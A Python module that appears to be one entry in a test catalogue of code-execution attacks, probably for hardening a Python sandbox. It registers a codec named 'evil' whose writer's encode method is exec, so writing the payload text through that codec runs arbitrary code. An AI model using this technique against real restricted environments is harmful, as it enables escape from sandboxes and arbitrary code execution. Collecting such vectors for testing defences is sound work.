"""The writer of evil's own codec encodes with exec()."""
CATEGORY = "callable"
REACH = "write"

import codecs

from . import payload


class Writer(codecs.StreamWriter):
    encode = exec

    def __init__(self, stream, errors):
        super().__init__(stream, {})


def search(name):
    return (codecs.CodecInfo(None, None, None, Writer) if name == "evil"
            else None)


def attack():
    codecs.register(search)


TEXT = payload.SOURCE
